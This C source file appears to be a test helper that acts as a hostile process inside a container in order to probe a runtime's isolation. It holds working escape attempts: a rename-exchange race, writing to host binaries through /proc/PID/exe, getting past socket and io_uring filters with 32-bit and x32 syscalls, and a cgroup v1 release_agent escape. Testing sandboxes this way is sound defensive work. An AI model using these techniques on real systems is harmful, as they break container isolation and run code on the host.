/* What a hostile process in a container does, by its first argument:
 *
 *   exchange A B     swap what A and B are, for ever
 *   hold             take hold of every program that has no name in the container, see whether it lies on what is
 *                    read-only, and open it for writing
 *   read FILE        as whatever user and group this is; says which, and the file's text or the error
 *   sockets FAMILY   make a socket of that family in every way that there is, and a ring of io_uring
 *   release FILE     have the kernel run FILE on the host, by the release agent of a cgroup v1 hierarchy
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <unistd.h>

static void say(const char *what, long result) {
    printf("%s: %s\n", what, result < 0 ? strerrorname_np(-result) : "done");
    fflush(stdout);
}

static long result(long value) { return value < 0 ? -errno : value; }

static void exchange(const char *one, const char *other) {
    for (;;) renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

static void hold(void) {
    char path[300], seen[256];
    struct statvfs where;
    int held[64], count = 0;
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes)) && count < 64;) {
            ssize_t length;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if (atoi(entry->d_name) < 1 || (length = readlink(path, seen, sizeof seen - 1)) < 0) continue;
            seen[length] = 0;
            if (strcmp(seen, "/") || (held[count] = open(path, O_PATH)) < 0) continue;
            fstatvfs(held[count++], &where);
            printf("held: %s\n", where.f_flag & ST_RDONLY ? "read-only" : "writable");
            fflush(stdout);
        }
        closedir(processes);
        for (int i = 0; i < count; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            if (open(path, O_WRONLY) < 0) continue;
            say("write", 0);
            return;
        }
    }
}

static int read_as_this(const char *file) {
    char text[256] = "";
    int fd = open(file, O_RDONLY);
    printf("%u:%u ", geteuid(), getegid());
    if (fd < 0) say("read", -errno);
    else printf("%.*s\n", (int)read(fd, text, sizeof text), text);
    return 0;
}

#ifdef __x86_64__
/* The system call of a 32-bit program. */
static long call32(long number, long first, long second, long third) {
    long answer;
    asm volatile("int $0x80"
                 : "=a"(answer)
                 : "a"(number), "b"(first), "c"(second), "d"(third)
                 : "memory", "r8", "r9", "r10", "r11");
    return (int)answer;
}
#endif

static int sockets(int family) {
    enum { DATAGRAM = 2, SEQUENCED = 5, STREAM = 1 };
    char parameters[256] = {0};
    say("socket", result(syscall(SYS_socket, family, DATAGRAM, 0)));
    say("socketpair", result(syscall(SYS_socketpair, family, SEQUENCED, 0, parameters)));
#ifdef __x86_64__
    unsigned *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    low[0] = family, low[1] = STREAM, low[2] = 0;
    say("socket of 32 bits", call32(359, family, DATAGRAM, 0));
    say("socketcall", call32(102, 1, (long)low, 0));
    say("socket of x32", result(syscall(0x40000000 | SYS_socket, family, DATAGRAM, 0)));
    say("io_uring_setup of 32 bits", call32(425, 1, (long)low, 0));
#endif
    say("io_uring_setup", result(syscall(SYS_io_uring_setup, 1, parameters)));
    return 0;
}

static long put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    long written = fd < 0 ? -errno : result(write(fd, text, strlen(text)));
    if (fd >= 0) close(fd);
    return written;
}

/* In the hierarchy that is at `at`: where it is the container's own group, the agent's file is not even there. */
static void set_agent(const char *at, const char *file) {
    char path[512];
    snprintf(path, sizeof path, "%s/release_agent", at);
    if (put(path, file) >= 0) say("agent", 0);
    snprintf(path, sizeof path, "%s/../release_agent", at);
    if (put(path, file) >= 0) say("agent", 0);
    snprintf(path, sizeof path, "%s/notify_on_release", at);
    if (put(path, "1") >= 0) say("notify", 0);
    snprintf(path, sizeof path, "%s/attack", at);
    if (mkdir(path, 0755) == 0) say("group", 0);
}

static int release(const char *file) {
    static const char *const names[] = {"memory", "cpu,cpuacct", "cpu", "cpuset", "devices", "freezer", "blkio", "pids", "rdma"};
    char path[512];
    set_agent("/sys/fs/cgroup", file);
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/sys/fs/cgroup/%s", names[i]);
        set_agent(path, file);
    }
    say("namespaces", result(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)));
    mkdir("/hierarchy", 0755);
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if (mount("cgroup", "/hierarchy", "cgroup", 0, names[i]) == 0) {
            set_agent("/hierarchy", file);
            umount("/hierarchy");
        }
    say("end", 0);
    return 0;
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "exchange") && argc == 4) exchange(argv[2], argv[3]);
    if (!strcmp(what, "hold")) hold();
    if (!strcmp(what, "read") && argc == 3) return read_as_this(argv[2]);
    if (!strcmp(what, "sockets") && argc == 3) return sockets(atoi(argv[2]));
    if (!strcmp(what, "release") && argc == 3) return release(argv[2]);
    return 2;
}
